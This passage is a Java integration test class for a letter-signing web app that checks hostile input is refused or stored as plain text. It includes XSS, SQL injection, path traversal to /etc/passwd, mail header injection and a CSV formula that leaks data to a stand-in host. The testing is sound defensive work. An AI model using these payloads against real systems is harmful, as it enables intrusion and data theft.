package org.undersigned.hardening;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Function;
import java.util.function.Supplier;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.ApplicationContext;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.security.crypto.password.PasswordEncoder;
import org.undersigned.EveryPublicMethod;
import org.undersigned.Fixtures;
import org.undersigned.PlainBrowser;
import org.undersigned.TestAccounts;
import org.undersigned.WebIntegrationTest;
import org.undersigned.account.AccountService;
import org.undersigned.account.OrganisationService;
import org.undersigned.account.Role;
import org.undersigned.base.InvalidInputException;
import org.undersigned.base.RefusedException;
import org.undersigned.letter.BlockKind;
import org.undersigned.letter.LetterDiscussion;
import org.undersigned.letter.LetterHistory;
import org.undersigned.letter.LetterService;
import org.undersigned.letter.NewLetter;
import org.undersigned.signing.InvitationService;
import org.undersigned.signing.NewInvitee;
import org.undersigned.signing.SigningFlow;

/**
 * What hostile input does to every form (through the services the Vaadin forms call) and every
 * server-rendered endpoint (over real HTTP): each case ends in a clear refusal or in inert storage
 * (stored exactly, shown as text), never a 500, a stack trace or an exception's name in a page,
 * and a refusal writes nothing (row counts of every table before and after).
 */
@WebIntegrationTest
class HostileInputTest {

    private static final String MEGABYTE = "a".repeat(1_000_000);
    private static final String TEN_MEGABYTES = "a".repeat(10_000_000);

    @LocalServerPort
    int port;

    @Autowired
    ApplicationContext context;

    @Autowired
    JdbcClient jdbc;

    @Autowired
    PasswordEncoder encoder;

    @Autowired
    LetterService letters;

    @Autowired
    LetterDiscussion discussion;

    @Autowired
    LetterHistory history;

    @Autowired
    InvitationService invitations;

    @Autowired
    SigningFlow flow;

    @Autowired
    org.undersigned.letter.DraftingInvitations drafting;

    @Autowired
    AccountService accounts;

    @Autowired
    OrganisationService organisations;

    private static AccessWorld world;
    private org.undersigned.letter.Block paragraph;
    private String codraftToken;

    @AfterEach
    void nobody() {
        Fixtures.actAsNobody();
    }

    private AccessWorld world() {
        if (world == null) {
            world = new AccessWorld(jdbc, encoder, letters, discussion, invitations, flow, drafting, null);
            Fixtures.actAsNobody();
        }
        return world;
    }

    // --- every text field, every hostile text ------------------------------------------------------

    /** What a hostile text should come to: stored exactly as typed, or refused with a message. */
    enum Expect {
        STORED,
        REFUSED,
        /** Stored with line breaks normalised to LF (paragraphs), refused in one-line fields. */
        LINES,
        /**
         * A name disguised in another alphabet or by invisible characters: stored exactly in
         * free text, refused in the fields that name an organisation or a person (base/Names).
         */
        DISGUISED
    }

    /** The fields that name an organisation or a person signing up, where disguised names are refused. */
    private static final java.util.Set<String> NAME_FIELDS = java.util.Set.of(
            "sign-up: organisation name", "sign-up: your name", "co-drafter's name, new account from an invitation");

    record Payload(String name, String value, Expect expect) {}

    static final List<Payload> PAYLOADS = List.of(
            new Payload("script tag", "<script>alert(1)</script>", Expect.STORED),
            new Payload("event handler", "<img src=x onerror=alert(1)>", Expect.STORED),
            new Payload(
                    "svg onload breaking out of an attribute", "\"><svg/onload=alert(document.cookie)>", Expect.STORED),
            new Payload(
                    "HTML with a javascript: link", "<b>bold</b> <a href=\"javascript:alert(1)\">x</a>", Expect.STORED),
            new Payload("right-to-left override", "Jane Doe\u202Egnp.exe", Expect.REFUSED),
            new Payload("zero-width space", "Jane\u200BDoe", Expect.REFUSED),
            new Payload("NUL byte", "Jane\u0000Doe", Expect.REFUSED),
            new Payload("homoglyph (Cyrillic a in a Latin name)", "J\u0430ne Doe", Expect.DISGUISED),
            new Payload("homoglyph (Cyrillic A opening Amnesty)", "\u0410mnesty International", Expect.DISGUISED),
            new Payload("homoglyph (Greek omicron in a Latin word)", "Freedom H\u03BFuse", Expect.DISGUISED),
            new Payload("homoglyph (Cherokee letter in a Latin word)", "\u13AAmnesty", Expect.DISGUISED),
            new Payload("soft hyphen hidden in a word", "Jane Do\u00ADe", Expect.DISGUISED),
            new Payload("Hangul filler as a blank", "Jane\u3164Doe", Expect.DISGUISED),
            new Payload("Latin and Arabic-Indic digits mixed", "Article 1\u0669", Expect.DISGUISED),
            new Payload("SQL metacharacters", "Robert'); DROP TABLE account;-- ' OR '1'='1", Expect.STORED),
            new Payload(
                    "every script round-trips",
                    "Leyla Məmmədova — ქართული — Правозащитник — حقوق الإنسان",
                    Expect.STORED),
            new Payload("CR/LF header injection", "Jane\r\nBcc: evil@example.org", Expect.LINES),
            new Payload("1 MB", MEGABYTE, Expect.REFUSED),
            new Payload("10 MB", TEN_MEGABYTES, Expect.REFUSED));

    /** A form field: writes a value the way its form does, and reads back what was stored. */
    record Field(String name, boolean paragraph, Function<String, Supplier<String>> write) {}

    private List<Field> fields() {
        return List.of(
                new Field("letter title", false, v -> {
                    actAs(world().owner);
                    UUID id = letters.create(
                            new NewLetter(v, "en", world().draftingOrganisation, "6 April", "Baku", null));
                    return () -> letters.get(id).title();
                }),
                new Field("letter paragraph", true, v -> {
                    actAs(world().editor);
                    letters.saveBlock(world().letterId, paragraph.id(), paragraph.version(), v);
                    UUID id = paragraph.id();
                    return () -> letters.block(world().letterId, id).text();
                }),
                new Field("comment", true, v -> {
                    actAs(world().commenter);
                    UUID id = discussion.comment(world().letterId, world().blockId, v);
                    return () -> discussion.comments(world().letterId).stream()
                            .filter(c -> c.id().equals(id))
                            .findFirst()
                            .orElseThrow()
                            .body();
                }),
                new Field("suggestion", true, v -> {
                    actAs(world().commenter);
                    UUID id = discussion.suggest(world().letterId, world().blockId, v);
                    return () -> discussion.suggestions(world().letterId).stream()
                            .filter(s -> s.id().equals(id))
                            .findFirst()
                            .orElseThrow()
                            .proposedText();
                }),
                new Field("version name", false, v -> {
                    actAs(world().editor);
                    int number = history.revisions(world().letterId).getFirst().number();
                    history.name(world().letterId, number, v);
                    return () -> history.revisions(world().letterId).stream()
                            .filter(r -> r.number() == number)
                            .findFirst()
                            .orElseThrow()
                            .names()
                            .getLast();
                }),
                new Field(
                        "invitee name",
                        false,
                        v -> invitee(new NewInvitee(v, "Chair", "Org", Fixtures.uniqueEmail(), "en"), 0)),
                new Field(
                        "invitee role",
                        false,
                        v -> invitee(new NewInvitee("Jane Roe", v, "Org", Fixtures.uniqueEmail(), "en"), 1)),
                new Field(
                        "invitee organisation",
                        false,
                        v -> invitee(new NewInvitee("Jane Roe", "Chair", v, Fixtures.uniqueEmail(), "en"), 2)),
                new Field("sign-up: organisation name", false, v -> {
                    EveryPublicMethod.actAsAnonymous();
                    String email = Fixtures.uniqueEmail();
                    accounts.signUp(new org.undersigned.account.OrganisationSignUp(
                            v,
                            "AZ",
                            "https://example.org",
                            "example.org",
                            "Jane Doe",
                            email,
                            Fixtures.PASSWORD,
                            Fixtures.PASSWORD));
                    return () -> jdbc.sql(
                                    "SELECT o.name FROM organisation o JOIN membership m ON m.organisation_id = o.id "
                                            + "JOIN account a ON a.id = m.account_id WHERE a.email = ?")
                            .param(email)
                            .query(String.class)
                            .single();
                }),
                new Field("co-drafter's name, new account from an invitation", false, v -> {
                    EveryPublicMethod.actAsAnonymous();
                    String token = codraftToken;
                    drafting.acceptAsNewcomer(token, v, Fixtures.PASSWORD, Fixtures.PASSWORD);
                    return () -> jdbc.sql(
                                    "SELECT a.display_name FROM account a JOIN drafting_invitation i ON i.accepted_by = a.id"
                                            + " WHERE i.token_hash = ?")
                            .param(org.undersigned.base.Tokens.hash(token))
                            .query(String.class)
                            .single();
                }),
                new Field("sign-up: your name", false, v -> {
                    EveryPublicMethod.actAsAnonymous();
                    String email = Fixtures.uniqueEmail();
                    accounts.signUp(new org.undersigned.account.OrganisationSignUp(
                            Fixtures.unique("Committee"),
                            "AZ",
                            "https://example.org",
                            "example.org",
                            v,
                            email,
                            Fixtures.PASSWORD,
                            Fixtures.PASSWORD));
                    return () -> jdbc.sql("SELECT display_name FROM account WHERE email = ?")
                            .param(email)
                            .query(String.class)
                            .single();
                }));
    }

    private Supplier<String> invitee(NewInvitee invitee, int column) {
        actAs(world().owner);
        UUID id = invitations.add(world().letterId, invitee);
        return () -> {
            var i = invitations.list(world().letterId).stream()
                    .filter(x -> x.id().equals(id))
                    .findFirst()
                    .orElseThrow();
            return switch (column) {
                case 0 -> i.name();
                case 1 -> i.roleLine();
                default -> i.organisation();
            };
        };
    }

    @TestFactory
    Stream<DynamicTest> everyTextFieldAgainstEveryHostileText() {
        List<DynamicTest> tests = new ArrayList<>();
        for (Field field : fields()) {
            for (Payload payload : PAYLOADS) {
                tests.add(DynamicTest.dynamicTest(field.name() + ": " + payload.name(), () -> hostile(field, payload)));
            }
        }
        return tests.stream();
    }

    private void hostile(Field field, Payload payload) {
        world();
        // Sign-up names must be unique: a suffix keeps each case's own, the payload stays in front.
        String value = field.name().startsWith("sign-up: organisation")
                        && payload.expect() != Expect.REFUSED
                        && payload.expect() != Expect.DISGUISED
                ? payload.value() + " " + UUID.randomUUID().toString().substring(0, 6)
                : payload.value();
        Expect expect = switch (payload.expect()) {
            case LINES -> field.paragraph() ? Expect.LINES : Expect.REFUSED;
            case DISGUISED -> NAME_FIELDS.contains(field.name()) ? Expect.REFUSED : Expect.STORED;
            default -> payload.expect();
        };
        if (field.paragraph() && field.name().equals("letter paragraph")) {
            // A paragraph of its own, made before counting: comments and suggestions stay on the first.
            actAs(world().editor);
            paragraph = letters.addBlock(world().letterId, world().blockId, BlockKind.PARAGRAPH);
            Fixtures.actAsNobody();
        }
        if (field.name().startsWith("co-drafter")) {
            // The invitation is made before counting: only accepting it is under test.
            actAs(world().editor);
            String email = Fixtures.uniqueEmail();
            letters.invitePerson(world().letterId, email, org.undersigned.letter.DraftingRole.COMMENTER);
            codraftToken = AccessWorld.codraftToken(jdbc, email);
            Fixtures.actAsNobody();
        }
        Map<String, Long> before = Hardening.rowCounts(jdbc);
        Supplier<String> stored;
        try {
            stored = field.write().apply(value);
        } catch (InvalidInputException e) {
            assertThat(expect).as("refused with: " + e.getMessage()).isEqualTo(Expect.REFUSED);
            assertThat(e.fieldErrors()).as("a message for the field").isNotEmpty();
            e.fieldErrors()
                    .values()
                    .forEach(m -> assertThat(m)
                            .as("a plain message")
                            .hasSizeLessThan(300)
                            .doesNotContain("Exception")
                            .doesNotContain(value.length() > 50 ? value.substring(0, 50) : "\u0000never"));
            assertThat(Hardening.rowCounts(jdbc)).as("nothing half-written").isEqualTo(before);
            return;
        } finally {
            Fixtures.actAsNobody();
        }
        assertThat(expect).as(field.name() + " accepted " + payload.name()).isNotEqualTo(Expect.REFUSED);
        actAs(field.name().startsWith("sign-up") ? world().admin : world().owner);
        String readBack = stored.get();
        Fixtures.actAsNobody();
        String exactly = expect == Expect.LINES ? value.replace("\r\n", "\n") : value;
        assertThat(readBack).as("stored exactly").isEqualTo(exactly);
    }

    private static void actAs(AccessWorld.Person p) {
        Fixtures.actAs(p.id(), p.email(), false, false);
    }

    // --- javascript: URLs and other addresses in the organisation's website ------------------------

    @ParameterizedTest
    @ValueSource(
            strings = {
                "javascript:alert(1)",
                "JaVaScRiPt:alert(document.domain)",
                " javascript:alert(1)",
                "data:text/html,<script>alert(1)</script>",
                "vbscript:msgbox(1)",
                "https://example.org/\"><script>alert(1)</script>",
                "//evil.example",
                "file:///etc/passwd"
            })
    void anOrganisationWebsiteIsAWebAddressOrRefused(String website) {
        EveryPublicMethod.actAsAnonymous();
        String email = Fixtures.uniqueEmail();
        Map<String, Long> before = Hardening.rowCounts(jdbc);
        try {
            accounts.signUp(new org.undersigned.account.OrganisationSignUp(
                    Fixtures.unique("Committee"),
                    "AZ",
                    website,
                    "example.org",
                    "Jane Doe",
                    email,
                    Fixtures.PASSWORD,
                    Fixtures.PASSWORD));
        } catch (InvalidInputException e) {
            assertThat(e.fieldErrors()).containsKey("website");
            assertThat(Hardening.rowCounts(jdbc)).as("nothing half-written").isEqualTo(before);
            return;
        }
        String stored = jdbc.sql("SELECT o.website FROM organisation o JOIN membership m ON m.organisation_id = o.id "
                        + "JOIN account a ON a.id = m.account_id WHERE a.email = ?")
                .param(email)
                .query(String.class)
                .single();
        assertThat(URI.create(stored).getScheme()).as(stored).isIn("https", "http");
        assertThat(stored).doesNotContain("<").doesNotContain("\"");
    }

    // --- CSV: formula cells stay inert text ----------------------------------------------------------

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
                "+SUM(1+1)*cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0"
            })
    void formulaCellsInAnUploadedListAreKeptAsText(String cell) {
        actAs(world().owner);
        String email = Fixtures.uniqueEmail();
        String csv = "email,name,role,organisation\n" + email + ",\"" + cell.replace("\"", "\"\"") + "\",Chair,Org\n";
        var preview = invitations.preview(world().letterId, csv);
        assertThat(preview.rows()).hasSize(1);
        var row = preview.rows().getFirst();
        assertThat(row.invitee().name()).isEqualTo(cell);
        // There is no CSV export in the app (decision 0060): the cell is stored as the text it is.
        invitations.addAll(world().letterId, List.of(row.invitee()));
        assertThat(invitations.list(world().letterId).stream()
                        .filter(i -> i.email().equals(email))
                        .findFirst()
                        .orElseThrow()
                        .name())
                .isEqualTo(cell);
    }

    @Test
    void anOversizeUploadIsRefusedWithoutWritingAnything() {
        actAs(world().owner);
        StringBuilder many = new StringBuilder("email,name\n");
        for (int i = 0; i < 2_001; i++) {
            many.append("p").append(i).append("@example.org,Person ").append(i).append('\n');
        }
        Map<String, Long> before = Hardening.rowCounts(jdbc);
        assertThatThrownBy(() -> invitations.preview(world().letterId, many.toString()))
                .isInstanceOf(InvalidInputException.class);
        // One 10 MB row: refused as a whole, or previewed as a bad row that cannot be added.
        String tenMegabytes = "x@example.org," + TEN_MEGABYTES + "\n";
        try {
            var preview = invitations.preview(world().letterId, tenMegabytes);
            assertThat(preview.good()).isEmpty();
            assertThat(preview.bad()).isEqualTo(1);
        } catch (InvalidInputException e) {
            assertThat(e.fieldErrors()).isNotEmpty();
        }
        assertThat(Hardening.rowCounts(jdbc)).isEqualTo(before);
    }

    // --- mail header injection ---------------------------------------------------------------------

    @ParameterizedTest
    @ValueSource(
            strings = {
                "victim@example.org\r\nBcc: evil@example.org",
                "victim@example.org\nSubject: hacked",
                "victim@example.org%0d%0aBcc:evil@example.org",
                "\"evil\r\nBcc: evil@example.org\"@example.org"
            })
    void addressesWithLineBreaksReachNoMailHeader(String address) {
        Map<String, Long> before = Hardening.rowCounts(jdbc);
        actAs(world().owner);
        assertThatThrownBy(() -> organisations.invite(world().draftingOrganisation, address, Role.MEMBER))
                .isInstanceOf(InvalidInputException.class);
        assertThatThrownBy(
                        () -> invitations.add(world().letterId, new NewInvitee("Jane", "Chair", "Org", address, "en")))
                .isInstanceOf(InvalidInputException.class);
        Fixtures.actAsNobody();
        EveryPublicMethod.actAsAnonymous();
        try {
            accounts.requestPasswordReset(address);
        } catch (InvalidInputException e) {
            // refused outright: as good as silently ignored
        }
        Fixtures.actAsNobody();
        assertThat(Hardening.rowCounts(jdbc))
                .as("no mail queued, nothing written")
                .isEqualTo(before);
        assertThat(jdbc.sql("SELECT count(*) FROM mail_outbox WHERE recipient ~ '[\\r\\n]' OR subject ~ '[\\r\\n]'")
                        .query(Integer.class)
                        .single())
                .isZero();
    }

    // --- forged, expired and replayed tokens --------------------------------------------------------

    @Test
    void signUpConfirmationLinksCannotBeForgedOrReplayed() {
        var testAccounts = new TestAccounts(accounts, jdbc);
        String email = Fixtures.uniqueEmail();
        EveryPublicMethod.actAsAnonymous();
        accounts.signUp(Fixtures.signUp(Fixtures.unique("Committee"), email));
        String token = testAccounts.tokenFromMail(email, "/account/verify/");
        assertThatThrownBy(() -> accounts.verifyEmail(forge(token))).isInstanceOf(RefusedException.class);
        accounts.verifyEmail(token);
        Map<String, Long> before = Hardening.rowCounts(jdbc);
        assertThatThrownBy(() -> accounts.verifyEmail(token)).isInstanceOf(RefusedException.class);
        assertThat(Hardening.rowCounts(jdbc)).isEqualTo(before);
    }

    @Test
    void passwordResetLinksCannotBeForgedReplayedOrUsedLate() {
        var testAccounts = new TestAccounts(accounts, jdbc);
        var registered = testAccounts.register(true);
        EveryPublicMethod.actAsAnonymous();
        accounts.requestPasswordReset(registered.email());
        String token = testAccounts.tokenFromMail(registered.email(), "/account/reset/");
        String newPassword = "a completely different passphrase";
        assertThatThrownBy(() -> accounts.resetPassword(forge(token), newPassword, newPassword))
                .isInstanceOf(RefusedException.class);
        accounts.resetPassword(token, newPassword, newPassword);
        assertThatThrownBy(() -> accounts.resetPassword(token, Fixtures.PASSWORD, Fixtures.PASSWORD))
                .isInstanceOf(RefusedException.class);

        accounts.requestPasswordReset(registered.email());
        String late = testAccounts.tokenFromMail(registered.email(), "/account/reset/");
        jdbc.sql("UPDATE action_token SET expires_at = now() - interval '1 minute' WHERE expires_at > now() "
                        + "AND account_id = ?")
                .param(registered.accountId())
                .update();
        assertThat(accounts.peekPasswordReset(late)).isEmpty();
        assertThatThrownBy(() -> accounts.resetPassword(late, Fixtures.PASSWORD, Fixtures.PASSWORD))
                .isInstanceOf(RefusedException.class);
    }

    @Test
    void memberInvitationsCannotBeForgedOrReplayed() {
        var testAccounts = new TestAccounts(accounts, jdbc);
        actAs(world().owner);
        String email = Fixtures.uniqueEmail();
        organisations.invite(world().draftingOrganisation, email, Role.MEMBER);
        Fixtures.actAsNobody();
        String token = testAccounts.tokenFromMail(email, "/account/join/");
        EveryPublicMethod.actAsAnonymous();
        assertThat(accounts.peekJoin(forge(token))).isEmpty();
        assertThatThrownBy(() -> accounts.acceptJoin(forge(token), "New Member", Fixtures.PASSWORD, Fixtures.PASSWORD))
                .isInstanceOf(RefusedException.class);
        accounts.acceptJoin(token, "New Member", Fixtures.PASSWORD, Fixtures.PASSWORD);
        Map<String, Long> before = Hardening.rowCounts(jdbc);
        assertThatThrownBy(() -> accounts.acceptJoin(token, "Second Time", Fixtures.PASSWORD, Fixtures.PASSWORD))
                .isInstanceOf(RefusedException.class);
        assertThat(Hardening.rowCounts(jdbc)).isEqualTo(before);
    }

    @Test
    void coDraftingInvitationsCannotBeForgedReplayedOrSentToHostileAddresses() {
        actAs(world().editor);
        Map<String, Long> start = Hardening.rowCounts(jdbc);
        for (String bad : List.of(
                "<script>alert(1)</script>@example.org",
                "evil\u202Egro.elpmaxe@example.org",
                "zero\u200Bwidth@example.org",
                "x".repeat(1_000_000) + "@example.org")) {
            assertThatThrownBy(() ->
                            letters.invitePerson(world().letterId, bad, org.undersigned.letter.DraftingRole.EDITOR))
                    .isInstanceOf(InvalidInputException.class);
        }
        assertThat(Hardening.rowCounts(jdbc))
                .as("nothing written for a hostile address")
                .isEqualTo(start);
        String email = Fixtures.uniqueEmail();
        letters.invitePerson(world().letterId, email, org.undersigned.letter.DraftingRole.EDITOR);
        String token = AccessWorld.codraftToken(jdbc, email);
        EveryPublicMethod.actAsAnonymous();
        Map<String, Long> before = Hardening.rowCounts(jdbc);
        assertThatThrownBy(() -> drafting.acceptAsNewcomer(forge(token), "New", Fixtures.PASSWORD, Fixtures.PASSWORD))
                .isInstanceOf(RefusedException.class);
        actAs(world().outsider);
        assertThatThrownBy(() -> drafting.accept(token)).isInstanceOf(RefusedException.class);
        assertThat(Hardening.rowCounts(jdbc)).isEqualTo(before);
        EveryPublicMethod.actAsAnonymous();
        drafting.acceptAsNewcomer(token, "New Co-drafter", Fixtures.PASSWORD, Fixtures.PASSWORD);
        Map<String, Long> after = Hardening.rowCounts(jdbc);
        assertThatThrownBy(() -> drafting.acceptAsNewcomer(token, "Again", Fixtures.PASSWORD, Fixtures.PASSWORD))
                .isInstanceOf(RefusedException.class);
        assertThat(Hardening.rowCounts(jdbc)).isEqualTo(after);
    }

    @Test
    void setupLinksCannotBeForged() {
        assertThat(accounts.setupTokenValid(forge("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")))
                .isFalse();
    }

    @Test
    void signingLinksThatAreForgedTamperedExpiredOrRevokedSignNothing() {
        Signing s = openLetterWithInvitee("<script>alert('t')</script>");
        var browser = new Sessions.Browser(new PlainBrowser(port));
        browser.get("/verify");
        int before = signatures();
        for (String forged : List.of(forge(s.token), "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "short")) {
            var landing = browser.get("/sign/" + forged);
            check(landing);
            assertThat(landing.statusCode()).as(forged).isEqualTo(404);
            var begin = browser.post("/sign/" + forged + "/continue", Map.of());
            check(begin);
            assertThat(begin.statusCode()).isEqualTo(404);
        }
        // Expired.
        jdbc.sql("UPDATE invitation SET expires_at = now() - interval '1 minute' WHERE id = ?")
                .param(s.invitationId)
                .update();
        var expired = browser.get("/sign/" + s.token);
        check(expired);
        assertThat(expired.statusCode()).isEqualTo(410);
        var expiredBegin = browser.post("/sign/" + s.token + "/continue", Map.of());
        assertThat(expiredBegin.statusCode()).isEqualTo(410);
        // Revoked.
        jdbc.sql("UPDATE invitation SET expires_at = now() + interval '1 day' WHERE id = ?")
                .param(s.invitationId)
                .update();
        actAs(world().owner);
        invitations.revoke(s.letterId, s.invitationId);
        Fixtures.actAsNobody();
        var revoked = browser.post("/sign/" + s.token + "/continue", Map.of());
        check(revoked);
        assertThat(revoked.statusCode()).isEqualTo(410);
        assertThat(signatures()).isEqualTo(before);
    }

    @Test
    void hostileTextInALetterIsShownAsTextOnTheSigningPages() {
        Signing s = openLetterWithInvitee("<script>alert('name')</script>");
        var browser = new Sessions.Browser(new PlainBrowser(port));
        var landing = browser.get("/sign/" + s.token);
        check(landing);
        assertThat(landing.statusCode()).isEqualTo(200);
        var begin = browser.post("/sign/" + s.token + "/continue", Map.of());
        assertThat(begin.statusCode()).isEqualTo(303);
        var review = browser.get("/sign/review");
        check(review);
        assertThat(review.statusCode()).isEqualTo(200);
        assertThat(review.body())
                .doesNotContain("<script>alert")
                .doesNotContain("<img src=x")
                .contains("&lt;script&gt;alert(")
                .contains("&lt;img src=x onerror=alert(1)&gt;");
        // The signer's own line, hostile too, comes back escaped after a refusal (no consent).
        var refused = browser.post(
                "/sign/review",
                Map.of(
                        "invitation", s.invitationId.toString(),
                        "name", "\"><script>alert(2)</script>",
                        "role", "<b onmouseover=alert(3)>",
                        "organisation", "Org"));
        check(refused);
        assertThat(refused.statusCode()).isEqualTo(422);
        assertThat(refused.body()).doesNotContain("<script>alert(2)").doesNotContain("<b onmouseover");
        // A decline reason with a NUL byte and 1 MB: refused or cut, never a 500.
        var decline = browser.post(
                "/sign/decline", Map.of("invitation", s.invitationId.toString(), "reason", "no\u0000" + MEGABYTE));
        check(decline);
        assertThat(decline.statusCode()).isLessThan(500);
    }

    record Signing(UUID letterId, UUID invitationId, String token) {}

    private Signing openLetterWithInvitee(String inviteeName) {
        actAs(world().owner);
        UUID letterId = letters.create(new NewLetter(
                "<script>alert('title')</script>", "en", world().draftingOrganisation, "6 April", "Baku", null));
        var block = letters.blocks(letterId).stream()
                .filter(b -> b.kind() == BlockKind.PARAGRAPH)
                .findFirst()
                .orElseThrow();
        letters.saveBlock(letterId, block.id(), block.version(), "<img src=x onerror=alert(1)> We stand with them.");
        String email = Fixtures.uniqueEmail();
        UUID invitationId =
                invitations.add(letterId, new NewInvitee(inviteeName, "<i>Chair</i>", "Org & Co", email, "en"));
        invitations.openForSignatures(letterId);
        Fixtures.actAsNobody();
        String body = jdbc.sql("SELECT text_body FROM mail_outbox WHERE recipient = ? ORDER BY id DESC LIMIT 1")
                .param(email)
                .query(String.class)
                .single();
        Matcher m = Pattern.compile("/sign/([A-Za-z0-9_-]{43})").matcher(body);
        assertThat(m.find()).isTrue();
        return new Signing(letterId, invitationId, m.group(1));
    }

    private int signatures() {
        return jdbc.sql("SELECT count(*) FROM signature").query(Integer.class).single();
    }

    private static String forge(String token) {
        char last = token.charAt(token.length() - 1);
        return token.substring(0, token.length() - 1) + (last == 'A' ? 'B' : 'A');
    }

    // --- hostile requests over HTTP -----------------------------------------------------------------

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/letters/..%2f..%2fetc%2fpasswd",
                "/letters/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
                "/letters/..%252f..%252fetc%252fpasswd",
                "/letters/%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
                "/letters/..;/..;/etc/passwd",
                "/letters/....//....//etc/passwd",
                "/letters/%2e%2e/%2e%2e/WEB-INF/web.xml",
                "/letters/x%00.pdf",
                "/letters/no-such-letter.pdf%00.txt",
                "/sign/..%2f..%2fetc%2fpasswd",
                "/.well-known/..%2f..%2fapplication.properties",
                "/letters/%ff%fe%fd",
                "/sign/%c3%28",
                "/verify%c0%af",
                "/letters/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.pdf",
                "/letters/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                "/letters?page=%27%20OR%201%3D1--",
                "/verify?manifest=%3Cscript%3Ealert(1)%3C%2Fscript%3E"
            })
    void hostilePathsAreRefusedCleanly(String path) {
        var response = raw("GET", path, null, null, Map.of());
        if (response == null) {
            return; // the server closed the connection: refused, nothing served
        }
        assertThat(response.statusCode()).as(path).isLessThan(500);
        String body = new String(response.body(), StandardCharsets.UTF_8);
        assertThat(body)
                .as(path)
                .doesNotContain("root:")
                .doesNotContain("<web-app")
                .doesNotContain("spring.");
        assertThat(body).as(path).doesNotContain("<script>alert");
        Hardening.assertNoLeak(asString(response));
        if (response.statusCode() == 200) {
            assertThat(path).as("served only what exists").matches("^/(letters|verify)\\?.*");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"/verify", "/sign/review", "/sign/code", "/sign/decline", "/login"})
    void malformedUtf8NulAndHugeFormsArePostedInVain(String path) {
        var browser = new Sessions.Browser(new PlainBrowser(port));
        browser.get("/verify");
        String cookie =
                browser.plain.cookie("JSESSIONID").map(c -> "JSESSIONID=" + c).orElse("");
        String csrf = "_csrf=" + browser.csrf + "&";
        Map<String, Long> before = Hardening.rowCounts(jdbc);
        List<byte[]> bodies = new ArrayList<>();
        bodies.add(concat(
                csrf.getBytes(StandardCharsets.UTF_8),
                new byte[] {'m', 'a', 'n', 'i', 'f', 'e', 's', 't', '=', (byte) 0xff, (byte) 0xfe, (byte) 0xc3, 0x28}));
        bodies.add((csrf + "manifest=%00%00&invitation=%00&name=a%00b&username=%00&password=%00")
                .getBytes(StandardCharsets.UTF_8));
        bodies.add((csrf + "manifest=" + MEGABYTE + "&name=" + MEGABYTE + "&username=" + MEGABYTE)
                .getBytes(StandardCharsets.UTF_8));
        bodies.add((csrf + "manifest=" + TEN_MEGABYTES).getBytes(StandardCharsets.UTF_8));
        bodies.add(concat(
                csrf.getBytes(StandardCharsets.UTF_8),
                "invitation='; DROP TABLE invitation;--&code=1' OR '1'='1".getBytes(StandardCharsets.UTF_8)));
        for (byte[] body : bodies) {
            var response = raw("POST", path, body, "application/x-www-form-urlencoded", Map.of("Cookie", cookie));
            if (response == null) {
                continue; // connection closed on an oversize body: refused
            }
            assertThat(response.statusCode())
                    .as(path + " with " + body.length + " bytes")
                    .isLessThan(500);
            Hardening.assertNoLeak(asString(response));
        }
        assertThat(Hardening.rowCounts(jdbc)).as("nothing written").isEqualTo(before);
    }

    @Test
    void formsPostedWithoutTheirCsrfTokenAreRefused() {
        var browser = new PlainBrowser(port);
        browser.get("/verify");
        for (String path : List.of(
                "/verify",
                "/sign/review",
                "/sign/decline",
                "/sign/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA/continue")) {
            var response = browser.postForm(
                    path,
                    Map.of("manifest", "{}", "invitation", UUID.randomUUID().toString()));
            Hardening.assertNoLeak(response);
            assertThat(response.statusCode()).as(path).isEqualTo(403);
        }
    }

    @Test
    void vaadinRequestsWithoutAValidSecurityKeyChangeNothing() {
        Map<String, Long> before = Hardening.rowCounts(jdbc);
        String uidl = "{\"csrfToken\":\"00000000-0000-0000-0000-000000000000\",\"rpc\":[{\"type\":\"event\",\"node\":1,"
                + "\"event\":\"click\",\"data\":{}}],\"syncId\":0,\"clientId\":0}";
        // Anonymous, no session at all.
        var anonymous =
                raw("POST", "/?v-r=uidl&v-uiId=0", uidl.getBytes(StandardCharsets.UTF_8), "application/json", Map.of());
        assertThat(anonymous).isNotNull();
        assertThat(anonymous.statusCode()).isLessThan(500);
        Hardening.assertNoLeak(asString(anonymous));
        // A signed-in owner's real session, with a made-up key.
        var browser = new Sessions.Browser(new PlainBrowser(port));
        var login = browser.get("/login");
        String id = browser.plain.cookie("JSESSIONID").orElseThrow();
        world().actAs(Who.OWNER);
        Sessions.tomcatSession(context, id)
                .setAttribute(
                        org.springframework.security.web.context.HttpSessionSecurityContextRepository
                                .SPRING_SECURITY_CONTEXT_KEY,
                        new org.springframework.security.core.context.SecurityContextImpl(
                                org.springframework.security.core.context.SecurityContextHolder.getContext()
                                        .getAuthentication()));
